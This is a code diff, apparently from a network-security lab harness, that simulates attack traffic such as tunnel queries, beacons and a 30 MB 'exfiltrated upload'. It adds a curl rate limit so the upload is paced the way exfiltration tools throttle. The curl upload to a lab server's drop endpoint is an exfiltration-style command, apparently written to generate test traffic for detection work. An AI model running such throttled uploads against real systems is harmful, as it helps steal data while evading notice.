@@ -45,6 +45,8 @@ const TUNNEL_QUERIES = 80;
 const TUNNEL_BATCH = 10;
 /** Size of the exfiltrated upload, bytes. */
 export const UPLOAD_BYTES = 30_000_000;
+/** The upload's pace (curl --limit-rate): a few seconds, as exfiltration tools throttle. */
+const UPLOAD_RATE = "10M";
 /** Beacons and the seconds between them. */
 const BEACONS = 8;
 const BEACON_EVERY_MS = 2000;
@@ -145,6 +147,8 @@ export function attacks(net: LabNetwork, dir: string) {
       const r = await curl(ns, `http://${srv}:${PORTS.upload}/drop`, [
         "--interface",
         sourceIp,
+        "--limit-rate",
+        UPLOAD_RATE,
         "-T",
         file,
       ]);
